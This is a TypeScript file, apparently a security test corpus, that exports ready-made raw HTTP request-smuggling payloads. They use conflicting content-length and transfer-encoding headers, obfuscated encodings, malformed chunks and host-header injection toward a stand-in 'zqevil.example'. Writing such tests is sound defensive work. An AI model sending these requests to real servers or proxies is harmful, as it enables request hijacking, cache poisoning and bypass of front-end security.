const EVIL = "zqevil.example";
/** The same request written so that two readers may see its end in different places; the second one hides in it. */
const hidden = "GET /v1/zqsmuggled HTTP/1.1\r\nhost: prumo.example\r\nx: ";
export const requestSmuggling: ((path: string) => string)[] = [
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: ${hidden.length + 5}\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n5c\r\n${hidden}\r\n0\r\n\r\n`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\ntransfer-encoding: x\r\n\r\n0\r\n\r\n${hidden}`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: xchunked\r\ncontent-length: 3\r\n\r\n0\r\n\r\n${hidden}`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ntransfer-encoding : chunked\r\ncontent-length: 3\r\n\r\n0\r\n\r\n${hidden}`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ntransfer-encoding:\tchunked\r\ncontent-length: 3\r\n\r\n0\r\n\r\n${hidden}`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: identity, chunked\r\ncontent-length: 3\r\n\r\n0\r\n\r\n${hidden}`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\nx: y\ntransfer-encoding: chunked\r\ncontent-length: 3\r\n\r\n0\r\n\r\n${hidden}`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\ncontent-length: ${hidden.length}\r\n\r\n${hidden}`,
  (path) => `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: +${hidden.length}\r\n\r\n${hidden}`,
  (path) => `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: 0x10\r\n\r\n${hidden}`,
  (path) => `POST ${path} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n0;a=\r\n\n\r\n${hidden}`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\nfffffffffffffff1\r\n${hidden}\r\n0\r\n\r\n`,
  (path) => `GET ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: ${hidden.length}\r\n\r\n${hidden}`,
  (path) =>
    `POST ${path}?a=b HTTP/1.1\r\nX: y\r\n host: z\r\nhost: x\r\ncontent-length: 3\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`,
  (path) => `POST ${path} HTTP/1.1\r\nhost: x\r\nhost: ${EVIL}\r\ncontent-length: 0\r\n\r\n`,
  (path) => `POST http://${EVIL}${path} HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\n\r\n`,
  (path) => `POST ${path} HTTP/1.0\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`,
];
